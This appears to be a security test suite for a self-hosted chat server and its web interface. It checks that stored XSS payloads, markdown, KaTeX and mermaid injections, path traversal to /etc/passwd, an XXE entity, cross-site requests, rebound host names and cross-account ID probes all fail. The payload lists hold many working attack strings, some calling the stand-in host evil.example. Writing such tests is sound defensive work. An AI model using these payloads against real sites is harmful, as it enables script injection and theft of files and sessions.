// Hostile texts, names and requests: none runs, none leaves the machine, nothing of one key is told
// to another. One conversation holds every text, as question and as answer.
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { request } from 'node:http';
import { test } from 'node:test';

import { begin, done, open, say, Server } from './harness.mjs';

const { server, browser, end } = await begin({ args: ['--require-key'] });
const strata = process.argv[2] ?? process.env.STRATA;
const makeKey = (name) => JSON.parse(execFileSync(strata, ['key', 'create', name, '--json'], {
  env: { ...process.env, STRATA_HOME: server.home } })).key;
const keys = { alice: makeKey('alice'), bob: makeKey('<img src=x onerror=hit()>') };
const as = (key, path, method = 'GET', body = undefined, headers = {}) => fetch(server.address + path, {
  method, body: body && JSON.stringify(body),
  headers: { authorization: `Bearer ${key}`, 'content-type': 'application/json', ...headers } });
const make = async (key, body) => (await as(key, '/api/v1/conversations', 'POST', body)).json();

async function signedIn(key) {
  const view = await open(browser, server);
  view.hits = 0;
  await view.exposeFunction('hit', () => view.hits++);
  await view.goto(server.address);
  await view.getByLabel('Key').fill(key);
  await view.getByRole('button', { name: 'Sign in' }).click();
  await view.getByText('What shall we think about?').waitFor();
  return view;
}

const far = 'https://evil.example';
const markup = [
  '<script>hit()</script>', '<img src=x onerror=hit()>', '<svg onload=hit()>', '<svg><script>hit()</script></svg>',
  '<iframe srcdoc="<script>parent.hit()</script>"></iframe>', '<object data="javascript:hit()"></object>',
  '<embed src="javascript:hit()">', '<math><mtext><img src=x onerror=hit()></mtext></math>',
  '<details open ontoggle=hit()>', '<video><source onerror=hit()></video>', '<body onload=hit()>',
  '<style>@import "https://evil.example/x.css"</style>', '<link rel=stylesheet href=https://evil.example/x.css>',
  '<base href="https://evil.example/">', '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<form action="https://evil.example/"><button>ok</button></form>', '<a href="javascript:hit()">x</a>',
  '<noscript><p title="</noscript><img src=x onerror=hit()>">', '<template><img src=x onerror=hit()></template>',
  '<b id=app>clobbered</b><b name=attempt>too</b>', '<!--><img src=x onerror=hit()>-->',
];
const markdown = [
  `![x](${far}/p.png)`, `![x](${far}/p.png?secret "t")`, `[![x](${far}/p.png)](${far})`, `![x][r]\n\n[r]: ${far}/p.png`,
  '[a](javascript:hit())', '[a](JaVaScRiPt:hit())', '[a](java\tscript:hit())', '[a](&#106;avascript:hit())',
  '[a](data:text/html,<script>hit()</script>)', '[a](vbscript:hit())', '[a](blob:https://evil.example/x)', '[a](file:///etc/passwd)',
  '<javascript:hit()>', '[a](<javascript:hit()> "t")', '[x]: javascript:hit()\n\n[x]', '[a](https://a"onmouseover="hit())',
  '![a](x"onerror="hit())', '**<img src=x onerror=hit()>**', '| <img src=x onerror=hit()> |\n|---|\n| <svg onload=hit()> |',
  `${'>'.repeat(500)} deep`, `${'- '.repeat(300)}deep`, `${'['.repeat(2000)}`, `${'*a_ '.repeat(2000)}`,
];
const code = [
  '```html\n<script>hit()</script>\n```', '```"><img src=x onerror=hit()>\nx\n```', '```js onload=hit()\nhit()\n```',
  '`<img src=x onerror=hit()>`', '```xml\n<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>\n```',
];
const formulas = [
  '$\\href{javascript:hit()}{x}$', '$\\url{javascript:hit()}$', `$\\includegraphics{${far}/p.png}$`,
  '$\\htmlData{x=1}{y}$', '$\\htmlStyle{background:url(https://evil.example)}{y}$', '$\\htmlId{app}{y}$',
  '$\\fcolorbox{red}{blue}{x}$', '$\\def\\a{\\a\\a}\\a$', '$\\rule{99999em}{99999em}$', '$<img src=x onerror=hit()>$',
];
const diagrams = [
  'flowchart LR\n a["<img src=x onerror=parent.hit()>"] --> b', 'flowchart LR\n a --> b\n click a call hit()',
  `flowchart LR\n a --> b\n click a href "javascript:hit()"`,
  `%%{init: {"securityLevel": "loose", "themeCSS": "@import url(${far}/x.css)"}}%%\nflowchart LR\n a --> b`,
  `flowchart LR\n a["<script>fetch('${far}')</script>"] --> b`,
].map((source) => '```mermaid\n' + source + '\n```');
const texts = [...markup, ...markdown, ...code, ...formulas, ...diagrams];
const nasty = '"><img src=x onerror=hit()><script>hit()</script>';

// What stands in answers: no element that acts, no link that is not one.
async function calm(view) {
  await view.waitForFunction(() => !document.querySelector('iframe:not([data-drawn]), .math:not(:has(.katex, code))')); // what is drawn late
  const found = await view.locator('article').evaluateAll((nodes) => nodes.map((node) => ({
    active: node.querySelectorAll('script,img,object,embed,video,form,style,link,meta,base,.prose p svg image').length,
    handlers: [...node.querySelectorAll('*')].filter((each) => [...each.attributes].some(({ name }) => name.startsWith('on'))).length,
    links: [...node.querySelectorAll('a')].map((link) => link.protocol),
    frames: [...node.querySelectorAll('iframe')].map((frame) => frame.getAttribute('sandbox') + frame.getAttribute('src')),
  })));
  for (const each of found) {
    assert.equal(each.active, 0);
    assert.equal(each.handlers, 0);
    for (const protocol of each.links) assert.match(protocol, /^(https?:|mailto:|:)$/);
    for (const frame of each.frames) assert.equal(frame, 'allow-scripts/frame/diagram.html');
  }
  assert.equal(view.hits, 0);
  const asked = view.problems.filter((each) => each.startsWith('asks another origin'));
  assert.deepEqual(asked, []);
  return found.length;
}

test(`${texts.length} hostile texts neither run nor load, for their owner and behind a link`, async () => {
  const view = await signedIn(keys.alice);
  const messages = texts.flatMap((text) => [{ text }, { role: 'assistant', text, reasoning: nasty,
    data: { model: nasty, error: nasty, notice: nasty, calls: [{ id: '1', name: nasty, arguments: nasty }] } }]);
  const files = [{ name: `../../${nasty}\u202e.exe`, start: 4, end: 8 }, { name: 7, start: -1, end: 99 }];
  messages.push({ text: 'see\nwhat', data: { files: files.slice(0, 1), typed: 3 } }, { role: 'assistant', text: 'x' },
    { text: 'see', data: { files, typed: 1e9 } }, { role: 'assistant', text: 'last of all' });
  const made = await make(keys.alice, { title: nasty, folder: nasty, settings: { model: nasty, system: nasty }, messages });
  await view.goto(`${server.address}/#/chat/${made.id}`);
  await view.getByText('last of all').waitFor();
  assert.equal(await calm(view), messages.length);
  assert.equal(await view.getByRole('heading', { level: 1 }).innerText(), nasty);
  for (const frame of view.frames().slice(1)) {
    assert.equal(await frame.evaluate(() => globalThis.origin), 'null');
    assert.equal(await frame.evaluate(() => fetch('/api/v1/session').then(() => 'read', () => 'refused')), 'refused');
  }
  await view.getByRole('button', { name: 'Share' }).click();
  await view.getByRole('button', { name: 'Make a link' }).click();
  const link = await view.getByRole('textbox', { name: 'Link' }).inputValue();
  const reader = await open(browser, server);
  reader.hits = 0;
  await reader.exposeFunction('hit', () => reader.hits++);
  await reader.goto(link);
  await reader.getByText('last of all').waitFor();
  await reader.locator('.hljs-tag').first().waitFor({ state: 'attached' });
  assert.equal(await calm(reader), messages.length);
});

test('a key signs in, a name that is hostile is text, and signing out ends it', async () => {
  const view = await signedIn(keys.bob);
  await view.getByRole('button', { name: /Sign out/ }).waitFor();
  assert.equal(await view.evaluate(() => document.cookie), '');
  assert.equal(await view.evaluate((key) => JSON.stringify([{ ...localStorage }, { ...sessionStorage }]).includes(key), keys.bob), false);
  await say(view, 'mine');
  await done(view);
  assert.equal((await (await as(keys.bob, '/api/v1/conversations')).json()).data[0].title, 'mine');
  await view.getByRole('button', { name: /Sign out/ }).click();
  await view.getByRole('heading', { name: 'Sign in' }).waitFor();
  assert.equal(await view.evaluate(() => fetch('/api/v1/conversations').then((answer) => answer.status)), 401);
  assert.equal(view.hits, 0);
});

test("another key's conversation is not there on any route, nor in its events", async () => {
  const view = await signedIn(keys.bob);
  const made = await make(keys.alice, { title: 'of alice', messages: [{ text: 'confidential' }] });
  const message = (await (await as(keys.alice, `/api/v1/conversations/${made.id}`)).json()).messages[0].id;
  const place = `/api/v1/conversations/${made.id}`;
  const answers = await view.evaluate(async ({ place, message }) => {
    const heard = [];
    const events = new EventSource('/api/v1/events');
    for (const name of ['conversation', 'message', 'delta', 'removed']) events.addEventListener(name, (event) => heard.push(event.data));
    await new Promise((ready) => (events.onopen = ready));
    const out = [];
    for (const [method, path, body] of [
      ['GET', place], ['PATCH', place, { title: 'x' }], ['PATCH', place, { leaf: message }], ['PATCH', place, { archived: true }],
      ['POST', `${place}/messages`, { text: 'x' }], ['POST', `${place}/messages`, { text: 'x', parent: message }],
      ['POST', `${place}/answers`, { model: 'demo', parent: message }], ['POST', `${place}/answers`, { model: 'demo', continue: message }],
      ['POST', `${place}/answers/${message}/cancel`, {}],
      ['POST', `${place}/answers/${message}/outputs`, { outputs: [{ id: '1', output: 'x' }] }], ['GET', `${place}/share`], ['POST', `${place}/share`, {}],
      ['DELETE', `${place}/share`, {}], ['DELETE', place, {}],
    ]) {
      const answer = await fetch(path, { method, body: body && JSON.stringify(body),
        headers: { 'content-type': 'application/json', 'x-strata-app': '1' } });
      out.push([method, path, answer.status, await answer.text()]);
    }
    const listed = await (await fetch('/api/v1/conversations?query=confidential')).text();
    return { out, listed, heard };
  }, { place, message });
  for (const [method, path, status, text] of answers.out) {
    assert.equal(status, 404, `${method} ${path}`);
    assert.doesNotMatch(text, /confidential|of alice/);
  }
  assert.doesNotMatch(answers.listed + answers.heard.join(), /confidential|of alice/);
  const kept = await (await as(keys.alice, place)).json();
  assert.deepEqual([kept.title, kept.archived, kept.messages.length], ['of alice', false, 1]);
});

test("on every route another key's ids are answered as ids that never were", async () => {
  const dated = { 'anthropic-version': '2023-06-01' };
  const post = async (path, body) => (await as(keys.alice, path, 'POST', body, dated)).json();
  const form = new FormData();
  form.set('purpose', 'batch');
  const line = { custom_id: '1', method: 'POST', url: '/v1/chat/completions', body: { model: 'demo', messages: [{ role: 'user', content: 'confidential' }] } };
  form.set('file', new Blob([JSON.stringify(line)]), 'confidential.jsonl');
  const file = await (await fetch(`${server.address}/v1/files`, { method: 'POST', body: form, headers: { authorization: `Bearer ${keys.alice}` } })).json();
  const said = [{ role: 'user', content: 'confidential' }];
  const thread = await make(keys.alice, { title: 'confidential', messages: [{ text: 'confidential' },
    { role: 'assistant', text: '', data: { calls: [{ id: 'CALL', name: 'f', arguments: '{}' }] } }] });
  const message = (await (await as(keys.alice, `/api/v1/conversations/${thread.id}`)).json()).messages[1].id;
  const conversation = await post('/v1/conversations', { items: [{ type: 'message', ...said[0] }] });
  const item = (await (await as(keys.alice, `/v1/conversations/${conversation.id}/items`)).json()).data[0].id;
  const owned = { // by what its routes begin with
    '/api/v1/conversations/': { id: thread.id, message },
    '/api/v1/votes/': { id: (await post('/api/v1/votes', { models: ['a', 'b'] })).id },
    '/v1/conversations/': { id: conversation.id, item },
    '/v1/responses/': { id: (await post('/v1/responses', { model: 'demo', input: 'confidential' })).id },
    '/v1/chat/completions/': { id: (await post('/v1/chat/completions', { model: 'demo', store: true, messages: said })).id },
    '/v1/files/': { id: file.id },
    '/v1/batches/': { id: (await post('/v1/batches', { input_file_id: file.id, endpoint: '/v1/chat/completions', completion_window: '24h' })).id },
    '/v1/messages/batches/': { id: (await post('/v1/messages/batches', { requests: [{ custom_id: 'a', params: { model: 'demo', max_tokens: 9, messages: said } }] })).id },
  };
  const { paths } = await server.get('/openapi.json');
  let asked = 0;
  for (const [pattern, operations] of Object.entries(paths)) {
    const family = Object.keys(owned).find((each) => pattern.startsWith(`${each}{`));
    if (!family) continue;
    const ids = owned[family];
    for (const [name, id] of Object.entries(ids)) assert.ok(id, `${family} ${name}`);
    // Of the same form, of nobody: the last letters are others.
    const never = Object.fromEntries(Object.entries(ids).map(([name, id]) => [name, `${id.slice(0, -6)}zzzzzz`]));
    const place = (with_) => pattern.replace(/\{(\w+)\}/g, (_, name) => with_[name] ?? assert.fail(`${pattern} has {${name}}`));
    for (const [method, operation] of Object.entries(operations)) {
      if (!['get', 'post', 'put', 'patch', 'delete'].includes(method)) continue;
      const content = operation.requestBody?.content?.['application/json'];
      const body = content && (content.example ?? Object.values(content.examples ?? {})[0]?.value ?? {});
      const tell = async (with_) => {
        const answer = await as(keys.bob, place(with_), method.toUpperCase(), body, dated);
        let text = await answer.text();
        for (const [name, id] of Object.entries(with_)) text = text.replaceAll(id, `{${name}}`);
        return { status: answer.status, text: text.replace(/"request_id":"[^"]*"/, '') };
      };
      const [his, nobodys] = [await tell(ids), await tell(never)];
      assert.equal(his.status, 404, `${method} ${pattern}: ${his.text}`);
      assert.deepEqual(his, nobodys, `${method} ${pattern}`);
      asked += 1;
    }
  }
  assert.ok(asked >= 30, `${asked} routes`);
  for (const body of [{ conversation: conversation.id }, { previous_response_id: owned['/v1/responses/'].id }]) {
    const answer = await as(keys.bob, '/v1/responses', 'POST', { model: 'demo', input: 'what was said?', ...body });
    assert.equal(answer.status, 404, JSON.stringify(body));
  }
  for (const list of ['/api/v1/conversations', '/v1/chat/completions', '/v1/files', '/v1/batches', '/v1/messages/batches', '/api/v1/votes']) {
    const text = await (await as(keys.bob, list, 'GET', undefined, dated)).text();
    assert.doesNotMatch(text, /confidential/, list);
    assert.deepEqual(Object.values(owned).flatMap(Object.values).filter((id) => text.includes(id)), [], list);
  }
  assert.equal((await (await as(keys.alice, `/api/v1/conversations/${thread.id}`)).json()).messages.length, 2); // all of it is there
});

test('what is of no kind that it should be breaks no page; a path leads nowhere', async () => {
  const view = await signedIn(keys.alice);
  const odd = [null, 7, 'x', [], {}, [null, 3, { id: {}, name: [], arguments: null, output: 5 }, { id: 'a' }, { id: 'a' }]];
  const made = await make(keys.alice, { title: 'odd', messages: odd.flatMap((each) => [{ text: 'q', data: { files: each, typed: each } },
    { role: 'assistant', text: 'still here', data: { calls: each, usage: each, first_token_ms: each, error: each, notice: each, model: each, request: each } },
    { role: 'assistant', text: 'and here', data: { usage: { tokens_per_second: each, completion_tokens: each } } }]) });
  await view.goto(`${server.address}/#/chat/${made.id}`);
  await view.getByText('and here').last().waitFor();
  assert.equal(await view.getByText('still here').count(), odd.length);
  await view.getByRole('button', { name: 'Copy as code' }).last().click();
  await view.getByRole('dialog').locator('pre').waitFor();
  assert.deepEqual(view.problems, []);
  const raw = (path) => new Promise((resolve, reject) => {
    const { port } = new URL(server.address);
    request({ host: '127.0.0.1', port, path, agent: false, headers: { authorization: `Bearer ${keys.alice}` } }, (answer) => {
      let body = '';
      answer.on('data', (bytes) => (body += bytes));
      answer.on('end', () => resolve({ status: answer.statusCode, body }));
    }).on('error', reject).end();
  });
  for (const up of ['../../../../etc/passwd', '..%2f..%2f..%2f..%2fetc%2fpasswd', '%2e%2e/%2e%2e/etc/passwd', '....//etc/passwd', '/etc/passwd', '..%5c..%5cetc%5cpasswd', 'x%00/../../etc/passwd']) {
    for (const place of ['/assets/', '/frame/', '/api/v1/models/', '/api/v1/conversations/', '/api/v1/shared/', '/api/blobs/']) {
      const { status, body } = await raw(place + up);
      assert.ok([400, 403, 404].includes(status), `${place}${up}: ${status}`);
      assert.doesNotMatch(body, /root:/);
    }
  }
});

test('a foreign page and a rebound name get nothing', async () => {
  const opened = await as(keys.alice, '/api/v1/session', 'POST', {});
  const cookie = opened.headers.get('set-cookie').split(';')[0];
  const ask = (method, path, headers, at = server) => new Promise((resolve, reject) => {
    const { port } = new URL(at.address);
    const asked = request({ host: '127.0.0.1', port, method, path, headers, agent: false }, (answer) => {
      let body = '';
      answer.on('data', (bytes) => (body += bytes));
      answer.on('end', () => resolve({ status: answer.statusCode, headers: answer.headers, body }));
    });
    asked.on('error', reject);
    // Node gives a body of DELETE no length: the server would take it for the next request.
    asked.end(['GET', 'DELETE'].includes(method) ? undefined : '{}');
  });
  const made = await make(keys.alice, { title: 'stays' });
  const place = `/api/v1/conversations/${made.id}`;
  const changes = [['POST', '/api/v1/conversations'], ['PATCH', place], ['DELETE', place], ['POST', `${place}/messages`],
    ['POST', `${place}/answers`], ['POST', `${place}/share`], ['DELETE', `${place}/share`], ['DELETE', '/api/v1/session']];
  for (const type of ['application/json', 'text/plain', 'application/x-www-form-urlencoded']) {
    for (const [method, path] of changes) {  // what a form of another site could send
      const answer = await ask(method, path, { cookie, 'content-type': type });
      assert.equal(answer.status, 403, `${method} ${path} ${type}`);
    }
  }
  for (const origin of [far, 'null', `${server.address}.evil.example`]) {
    const answer = await ask('GET', place, { cookie, origin });
    assert.equal(answer.status, 403, origin);
    assert.equal(answer.headers['access-control-allow-origin'], undefined);
  }
  // A name of its own has no cookie of ours; where no key is asked for, no foreign name is answered.
  assert.equal((await ask('GET', place, { host: 'evil.example' })).status, 401);
  const trusting = await new Server().start();
  for (const host of ['evil.example', 'evil.example:80', '127.0.0.1.evil.example', 'localhost.evil.example']) {
    for (const path of ['/api/v1/conversations', '/', '/api/v1/session', '/frame/diagram.html']) {
      assert.equal((await ask('GET', path, { host }, trusting)).status, 403, `${host} ${path}`);
    }
  }
  trusting.close();
  assert.equal((await ask('GET', '/', { accept: 'text/html' })).headers['content-security-policy'].includes("frame-ancestors 'none'"), true);
  assert.equal((await (await as(keys.alice, place)).json()).title, 'stays');
});

test.after(end);
